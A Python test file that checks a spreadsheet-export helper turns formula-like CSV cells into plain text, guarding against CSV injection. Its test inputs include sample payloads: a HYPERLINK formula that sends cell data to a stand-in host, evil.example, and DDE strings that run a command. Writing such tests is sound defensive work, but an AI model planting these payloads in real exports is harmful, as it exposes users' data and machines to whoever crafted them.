"""CSV cells a spreadsheet would run as formulas are written as text (OWASP, CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from monitor.spreadsheet import FALSE_CELL, TRUE_CELL, csv_bytes, safe_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"],
)
def test_text_that_starts_like_a_formula_is_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["\t=1+1", "\r=1+1"])
def test_leading_tab_or_carriage_return_is_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -0.5, 0, 18, "VN-22", "Rà soát = cắt giảm", ""])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_none_is_an_empty_cell() -> None:
    assert safe_cell(None) == ""


def test_csv_bytes_neutralises_every_text_column_and_keeps_numbers() -> None:
    rows = [{"unit_id": "=1+2", "title": "@SUM(A1:A9)", "task_id": "+cmd|' /C calc'!A0", "days": -4, "extra": "x"}]
    body = csv_bytes(("unit_id", "title", "task_id", "days"), rows)
    assert body.startswith("\ufeff".encode()) and body.endswith(b"\r\n")
    (row,) = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert row == {"unit_id": "'=1+2", "title": "'@SUM(A1:A9)", "task_id": "'+cmd|' /C calc'!A0", "days": "-4"}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (True, "true"),
        (False, "false"),
        (9.0, 9),
        (-0.0, 0),
        (1.0, 1),
        (0.458, 0.458),
        (-2.5, -2.5),
        (10**12 * 1.0, 10**12),
    ],
)
def test_booleans_and_whole_numbers_are_written_as_a_spreadsheet_reads_them(value: object, cell: object) -> None:
    assert safe_cell(value) == cell and type(safe_cell(value)) is type(cell)


def test_csv_bytes_writes_no_python_repr() -> None:
    rows = [{"met": True, "missed": False, "days": 9.0, "ratio": 0.458, "score": 1.0}]
    body = csv_bytes(("met", "missed", "days", "ratio", "score"), rows)
    (row,) = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert row == {"met": TRUE_CELL, "missed": FALSE_CELL, "days": "9", "ratio": "0.458", "score": "1"}
